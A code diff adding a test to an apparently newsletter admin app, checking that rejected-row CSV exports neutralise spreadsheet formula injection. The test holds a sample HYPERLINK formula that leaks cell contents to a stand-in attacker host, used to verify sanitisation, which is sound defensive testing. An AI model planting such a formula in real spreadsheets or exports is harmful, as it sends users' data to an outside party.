@@ -164,3 +164,26 @@ def test_segments_page_validates_rules_and_shows_the_live_count(client: TestClie
     with unit_of_work() as session:
         session.add(Subscriber(email="unrelated@example.com", language="uk"))
     assert 'data-count="members">1<' in client.get("/admin/segments").text
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+
+
+def test_the_rejected_rows_download_never_holds_a_live_formula(
+    client: TestClient, tasks: list[tuple[str, list[Any]]]
+) -> None:
+    list_id = news_list()
+    token = log_in(client)
+    upload = f'email,name\n"{FORMULA.replace(chr(34), chr(34) * 2)}",Eve\n+1-555@x,Tab\n'
+    answer = client.post(
+        f"/admin/lists/{list_id}/imports",
+        data={"csrf_token": token},
+        files={"file": ("evil.csv", upload.encode(), "text/csv")},
+        follow_redirects=False,
+    )
+    job_id = int(answer.headers["location"].rsplit("/", 1)[1])
+    import_subscribers(job_id)
+    report = client.get(f"/admin/imports/{job_id}/rejected.csv")
+    rows = list(csv.reader(io.StringIO(report.text)))
+    assert [row[1] for row in rows[1:]] == ["'" + FORMULA, "'+1-555@x"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
